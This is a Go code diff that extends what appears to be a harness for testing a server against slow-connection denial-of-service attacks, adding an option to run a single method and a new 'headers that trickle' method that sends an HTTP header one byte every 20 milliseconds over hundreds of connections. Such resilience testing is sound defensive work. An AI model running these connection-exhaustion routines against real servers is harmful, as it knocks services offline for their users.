@@ -35,6 +35,16 @@ type Target struct {
 	// Addresses is how many addresses attackers have, apart from those of API
 	// servers, or 0 when a proxy has all connections come from one.
 	Addresses int
+	// Only is the one method to attack with, or empty for all at once.
+	Only string
+}
+
+// Methods are the names of the methods.
+func Methods() (names []string) {
+	for _, m := range methods {
+		names = append(names, m.name)
+	}
+	return names
 }
 
 // dialer returns what the i-th of attackers or API servers connects with.
@@ -77,6 +87,15 @@ var methods = []method{
 		hold(c)
 	}},
 	{"silent", 300, time.Second, false, func(_ Target, c net.Conn, _ int) { hold(c) }},
+	{"headers that trickle", 300, time.Second, false, func(_ Target, c net.Conn, _ int) {
+		fmt.Fprint(c, post+"X: ")
+		for {
+			if _, err := fmt.Fprint(c, "x"); err != nil {
+				return
+			}
+			time.Sleep(20 * time.Millisecond)
+		}
+	}},
 	{"headers without end", 300, time.Second, false, func(_ Target, c net.Conn, _ int) {
 		var b strings.Builder
 		for i := range 900 {
@@ -201,6 +220,9 @@ func run(ctx context.Context, t Target) {
 	defer cancel()
 	var attackers sync.WaitGroup
 	for _, m := range methods {
+		if t.Only != "" && t.Only != m.name {
+			continue
+		}
 		for i := range m.many {
 			attackers.Go(func() {
 				for ctx.Err() == nil {
